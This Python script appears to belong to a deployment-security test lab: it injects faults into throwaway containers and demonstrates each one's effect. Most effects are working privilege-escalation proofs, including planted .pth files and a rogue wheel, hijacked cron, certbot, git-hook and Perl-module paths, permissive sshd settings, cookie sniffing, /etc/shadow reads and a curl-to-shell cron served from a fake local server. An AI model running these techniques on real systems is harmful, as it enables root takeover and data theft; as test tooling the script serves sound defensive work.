"""Show each blind8 fault's consequence on fresh containers of the campaign's snapshot: inject the fault exactly
as the campaign does, then run its effect: a shell as root in the container (``runuser`` to act as another
account), or from the runner: ``RUNNERPW:`` a login with the deploy login's password (paramiko), ``DEPLOY:`` a
deploy of another build with the pipeline, ``ROLLBACK:`` a rollback with the pipeline, ``PARALLEL:`` N logins at
once (paramiko), each followed by an optional shell in the container.

    python blind8/effects8.py PLATFORM ID-PREFIX [ID-PREFIX ...]
"""
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import paramiko

sys.path.insert(0, str(Path(__file__).parent))
from deploytests import pipeline
from deploytests.config import load_config
from deploytests.containers import Fleet
from deploytests.faults.catalogue import script
from deploytests.faults.run import Campaign
from deploytests.stacks import for_platform
from deploytests.suite.lab import APPS

from faults import ALLOWED, BLIND8

APP = APPS / "yourapplication"
camp = Campaign(APP, load_config(APP), faults=[], clean=0, progress=print, stack=for_platform(sys.argv[1]))
snap = {"tag": camp.snapshot()}
V = camp.values
H = "-H 'Host: localhost' http://127.0.0.1"
IP = "$(hostname -i | cut -d' ' -f1)"


def pth(tag: str) -> str:
    """The deploy login plants a .pth in its live release's venv that records who ran it."""
    return ("d=$(ls -d {root}/current/venv/lib/python*/site-packages); "
            f"printf 'import os; open(\"/tmp/{tag}-ran-as\", \"a\").write(str(os.getuid()) + \" \")\\n' > $d/zz-{tag}.pth; "
            f"chown {{login}} $d/zz-{tag}.pth; rm -f /tmp/{tag}-ran-as")


EFFECT = {
    "h01": "SHELL:" + f"curl -s -o /dev/null -w 'from the container (local): %{{{{http_code}}}}\\n' {H}/server-info; "
           "grep -n 'Require' /etc/apache2/mods-available/info.conf; echo 'the runner (docker gateway 172.17.0.1, in 172.16.0.0/12) asks:'",
    "h02": "SHELL:" + "python3 -c \"import socket,sys; ip=sys.argv[1]; s=socket.create_connection((ip,11211)); "
           "s.sendall(b'set session:abc 0 0 5\\r\\nadmin\\r\\nget session:abc\\r\\nquit\\r\\n'); import time; time.sleep(0.5); "
           "print('from', ip, ':', s.recv(4096))\" " + IP,
    "h04": "SHELL:" + "runuser -u opsadmin -- sh -c 'printf \"#!/bin/sh\\nid > /tmp/h04-ran-as\\n\" > /opt/certbot/bin/certbot'; "
           "grep certbot /etc/crontab; env -i PATH=/usr/bin:/bin sh -c 'certbot renew -q'; echo -n 'root cron line ran: '; cat /tmp/h04-ran-as",
    "h05": "SHELL:" + "l=$(getent passwd {login} | cut -d: -f6); runuser -u {login} -- sh -c \"printf '#!/bin/sh\\nid > /tmp/h05-ran-as\\n' > $l/git-hooks/pre-commit\"; "
           "cd /tmp && rm -rf r && git init -q r && cd r && git -c user.email=root@x -c user.name=root commit -q --allow-empty -m x; "
           "echo -n 'root commit ran the hook: '; cat /tmp/h05-ran-as",
    "h06": "SHELL:" + "l=$(getent passwd {login} | cut -d: -f6); runuser -u {login} -- python3 -c \"\nimport zipfile,sys\n"
           "w=sys.argv[1]+'/wheels/teamtools-9.0-py3-none-any.whl'\nz=zipfile.ZipFile(w,'w')\n"
           "z.writestr('zz_teamtools.pth','import os; open(\\'/tmp/h06-ran-as\\',\\'w\\').write(str(os.getuid()))\\n')\n"
           "z.writestr('teamtools-9.0.dist-info/METADATA','Metadata-Version: 2.1\\nName: teamtools\\nVersion: 9.0\\n')\n"
           "z.writestr('teamtools-9.0.dist-info/WHEEL','Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n"
           "z.writestr('teamtools-9.0.dist-info/RECORD','')\nz.close()\" $l; "
           "pip install -q --no-index teamtools 2>&1 | tail -2; python3 -c pass; echo -n 'root pip took the deploy login wheel, then every root python3 ran it: uid '; cat /tmp/h06-ran-as",
    "h07": "SHELL:" + pth("h07") + "; HOME=/root bash -lic true >/dev/null 2>&1; echo -n 'interactive root shell ran the release python as uid: '; cat /tmp/h07-ran-as",
    "h08": "SHELL:" + pth("h08") + "; for f in /usr/lib/systemd/system-shutdown/*; do \"$f\" reboot; done; "
           "echo -n '(as systemd-shutdown runs them, as root) release python ran as uid: '; cat /tmp/h08-ran-as",
    "h09": "SHELL:" + "runuser -u logcheck -- sh -c \"printf 'PermitRootLogin yes\\nPasswordAuthentication yes\\nPermitEmptyPasswords yes\\n' > /etc/ssh/sshd_config.d/00-ops.conf\"; "
           "ls -l /etc/ssh/sshd_config.d; /usr/sbin/sshd -T | grep -i -E '^(permitrootlogin|passwordauthentication|permitemptypasswords) '",
    "h10": "SHELL:" + "runuser -u {app_user} -- head -c 60 /etc/ssl/private/ssl-cert-snakeoil.key; echo; ls -l /etc/ssl/private",
    "h11": "RUNNERPW:sudo -n id",
    "h12": "SHELL:" + "grep -q EnableSSHKeysign /etc/ssh/ssh_config || printf 'Host *\\n    HostbasedAuthentication yes\\n    EnableSSHKeysign yes\\n' >> /etc/ssh/ssh_config; "
           "l=$(getent passwd {login} | cut -d: -f6); ls $l/.ssh; runuser -u {login} -- ssh -o BatchMode=yes -o PubkeyAuthentication=no -o PasswordAuthentication=no "
           "-o IdentitiesOnly=yes -o IdentityFile=/dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null {login}@127.0.0.1 'echo logged in with no key: $(id)' 2>&1 | tail -2",
    "h13": "SHELL:" + "p=$(pgrep -u www-data -x apache2 | head -1); grep -E '^(Uid|Gid)' /proc/$p/status; "
           "setpriv --reuid www-data --regid {app_group} --clear-groups grep -c SECRET_KEY {config} && echo '(as a worker: www-data, group {app_group}: reads the config)'",
    "h14": "SHELL:" + "(runuser -u {login} -- sudo -n -u {app_user} /bin/sleep 3 &); sleep 1; for p in $(pgrep -x sudo); do echo \"sudo pid $p (uid $(stat -c %u /proc/$p)) maps:\"; grep -m1 secaudit /proc/$p/maps; done; ls -ld /opt/secaudit/lib/security",
    "h15": "SHELL:" + "runuser -u nagios -- sh -c 'printf \"package strict; open(F, \\\">/tmp/h15-ran-as\\\"); print F \\$<; close F; sub import {{}} sub unimport {{}} 1;\\n\" > /opt/monitoring/perl5/strict.pm'; "
           "su root -c 'perl -e \"use strict; print qq(root perl ran\\n)\"'; echo -n 'root Perl under su loaded nagios module, uid: '; cat /tmp/h15-ran-as",
    "h16": "SHELL:" + "runuser -u nobody -- grep SECRET_KEY /tmp/application.cfg.20261205",
    "h17": "SHELL:" + "apt-cache policy apache2 libapache2-mod-wsgi-py3 | head -12",
    "h18": "SHELL:" + "mkdir -p /tmp/evil; printf 'id > /tmp/h18-ran-as\\n' > /tmp/evil/bootstrap.sh; (cd /tmp/evil && setsid python3 -m http.server 8089 --bind 127.0.0.1 >/dev/null 2>&1 &); sleep 1; "
           "c=$(sed -n 's/^\\*\\/30 \\* \\* \\* \\* root //p' /etc/cron.d/ops-pull | sed 's#curl -fsS#curl -fsS --connect-to ops-config.internal:80:127.0.0.1:8089#'); echo \"$c\"; sh -c \"$c\"; "
           "echo -n '(whoever answers for the name) ran as: '; cat /tmp/h18-ran-as",
    "h19": "ROLLBACK:",
    "h20": "ROLLBACK:" + f"curl -s -o /dev/null -w 'after the rollback /static/style.css: %{{{{http_code}}}}\\n' {H}/static/style.css",
    "h22": "PARALLEL:4",
    "h24": "DEPLOY:",
    "h25": "DEPLOY:",
    "h26": "DEPLOY:",
    "k01": "SHELL:" + "runuser -u oncall -- sh -c 'mkdir -p /tmp/o; echo \"id > /tmp/k01-ran-as\" > /tmp/o/envvars; sudo -n APACHE_ENVVARS=/tmp/o/envvars /usr/sbin/apache2ctl graceful' 2>&1 | tail -2; "
           "echo -n 'oncall (webops) made root source its file: '; cat /tmp/k01-ran-as",
    "k02": "SHELL:" + "mkdir -p /srv/keep; echo important > /srv/keep/ledger.db; touch -d '3 days ago' /srv/keep/ledger.db; "
           "runuser -u {app_user} -- ln -s /srv/keep {root}/shared/data/tmp/upload-1; "
           "sh -c \"$(sed -n 's/^17 \\* \\* \\* \\* root //p' /etc/cron.d/app-tmp-clean)\"; ls -la /srv/keep",
    "k03": "SHELL:" + "(runuser -u www-data -- timeout 6 tcpdump -i any -l -A -c 30 'tcp port 80' 2>/dev/null | grep -a -m1 Cookie > /tmp/k03-seen &) ; sleep 2; "
           f"curl -s -o /dev/null -H 'Cookie: session=SECRET-k03' {H}/; sleep 4; echo -n 'www-data captured: '; cat /tmp/k03-seen",
    "k04": "SHELL:" + "setpriv --reuid {app_user} --regid {app_group} --init-groups --inh-caps +dac_override --ambient-caps +dac_override "
           "{root}/current/venv/bin/python -c \"import os; print('as uid', os.getuid(), 'with the unit ambient capability, reads /etc/shadow:', open('/etc/shadow').readline()[:12])\"",
    "k05": "SHELL:" + "(apt-get install -y -qq --no-install-recommends snmp >/dev/null 2>&1 || true); snmpwalk -v2c -c public " + IP
           + " 1.3.6.1.2.1.25.4.2.1.5 2>&1 | grep -i -m3 -E 'wsgi|apache|sshd|k start'; snmpwalk -v2c -c public " + IP + " 1.3.6.1.2.1.25.4.2.1.5 2>&1 | wc -l",
    "k06": "SHELL:" + pth("k06") + "; " + "ps -eo user,pid,ppid,args | grep -v grep | grep -m2 'canon'; apache2ctl stop; i=0; while pgrep -x apache2 >/dev/null && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done; apache2ctl start; sleep 2; ps -eo user,pid,ppid,args | grep -v grep | grep -m2 'canon'; "
           "echo -n 'RewriteMap program (release python) ran as uid: '; cat /tmp/k06-ran-as",
    "k08": "SHELL:" + "runuser -u nobody -- cat /etc/apache2/conf-enabled/app-env.conf",
    "k09": "DEPLOY:" + f"curl -s -i {H}/health | head -3; curl -s -i -H 'Host: localhost' http://$(hostname -i | cut -d' ' -f1)/health | grep -i -m1 x-deploy",
}
FAULTS = {f.id.split("-")[0]: f for f in BLIND8 + ALLOWED}


def shell(container, cmd):
    res = container.exec_run(["sh", "-c", cmd.format(**V)], user="root")
    return f"rc={res.exit_code}:\n{res.output.decode(errors='replace').strip()[-1500:]}"


def login(server, **kw):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # a throwaway container of our own, on 127.0.0.1
    c.connect(server.host, server.port, username=server.user, allow_agent=False, look_for_keys=False, timeout=15,
              banner_timeout=15, auth_timeout=15, **kw)
    return c


def one(fid, server, container):
    f = FAULTS[fid]
    out = [f"##### {f.id}: {f.what}"]
    res = container.exec_run(script(f, V), user="root")
    out.append(f"inject rc={res.exit_code} {res.output.decode(errors='replace').strip()[-300:]}")
    kind, _, rest = EFFECT[fid].partition(":")
    try:
        if kind == "SHELL":
            out.append("effect " + shell(container, rest))
            if fid == "h01":
                import urllib.request
                req = urllib.request.Request(server.base_url + "/server-info", headers={"Host": "localhost"})
                try:
                    body = urllib.request.urlopen(req, timeout=10).read().decode(errors="replace")
                    out.append(f"runner GET /server-info: 200, {len(body)} bytes, e.g. "
                               f"{[ln for ln in body.split(chr(10)) if 'WSGIDaemonProcess' in ln or 'Server Root' in ln][:2]}")
                except Exception as exc:  # noqa: BLE001
                    out.append(f"runner GET /server-info: {exc}")
        elif kind == "RUNNERPW":
            c = login(server, password="Welcome2026")
            _, o, e = c.exec_command(rest, timeout=20)
            out.append(f"password login as {server.user}: {o.read().decode().strip()} {e.read().decode().strip()}")
            c.close()
        elif kind == "PARALLEL":
            n, ok, errs = int(rest), [], []

            def try_one(i):
                try:
                    c = login(server, key_filename=str(fleet_key["path"]))
                    _, o, _ = c.exec_command("true; echo ok", timeout=20)
                    ok.append(o.read().decode().strip())
                    c.close()
                except Exception as exc:  # noqa: BLE001
                    errs.append(f"{type(exc).__name__}: {exc}")
            ts = [threading.Thread(target=try_one, args=(i,)) for i in range(n)]
            [t.start() for t in ts]
            [t.join() for t in ts]
            out.append(f"{n} logins at once from the runner: {len(ok)} ok, {len(errs)} failed: {errs[:3]}")
        elif kind in ("DEPLOY", "ROLLBACK"):
            try:
                if kind == "DEPLOY":
                    r = pipeline.deploy(server.connection(), camp.cfg, camp.variant(7))
                    out.append(f"deploy of another build: ok, live {r.release_id}")
                else:
                    r = pipeline.rollback(server.connection(), camp.cfg)
                    out.append(f"rollback: ok {r}")
            except Exception as exc:  # noqa: BLE001 - the consequence
                out.append(f"{kind.lower()} FAILED: {type(exc).__name__}: {str(exc)[:700]}")
            if rest:
                out.append("then " + shell(container, rest))
    except Exception as exc:  # noqa: BLE001
        out.append(f"effect error: {type(exc).__name__}: {exc}")
    return "\n".join(out)


fleet_key: dict = {}
ids = [i for a in sys.argv[2:] for i in FAULTS if i.startswith(a)]
try:
    for n in range(0, len(ids), 4):
        chunk = ids[n:n + 4]
        with Fleet(count=len(chunk), name_prefix="blind8fx", image_tag=snap["tag"], progress=lambda m: None) as fleet:
            fleet_key["path"] = fleet.key.path
            with ThreadPoolExecutor(max_workers=4) as pool:
                for text in pool.map(one, chunk, fleet.servers, fleet.containers):
                    print(text, flush=True)
finally:
    camp.remove_image()
